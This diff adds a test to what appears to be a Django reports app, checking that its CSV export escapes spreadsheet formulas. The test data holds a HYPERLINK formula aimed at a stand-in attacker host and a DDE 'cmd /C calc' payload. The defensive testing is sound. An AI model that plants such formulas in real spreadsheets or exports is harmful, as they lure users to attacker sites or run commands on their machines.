@@ -122,3 +122,16 @@ def test_a_bad_filter_gets_400_with_a_clear_message(client, name, params, messag
     response = client.get(reverse(f"reports:{name}"), params)
     assert response.status_code == 400
     assert message in response.content.decode()
+
+
+def test_a_description_that_is_a_spreadsheet_formula_stays_text(client):
+    report = submit_report(
+        description='=HYPERLINK("http://evil.example/steal","Натиснете тук")',
+        latitude=42.3370123456,
+        longitude=23.5528987654,
+    )
+    Report.objects.filter(pk=report.pk).update(public_answer="@SUM(1+1)*cmd|' /C calc'!A0")
+    (row,) = csv_rows(client)
+    assert row["description"] == '\'=HYPERLINK("http://evil.example/steal","Натиснете тук")'
+    assert row["public_answer"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert (row["latitude"], row["longitude"]) == ("42.33701", "23.5529")  # numbers untouched
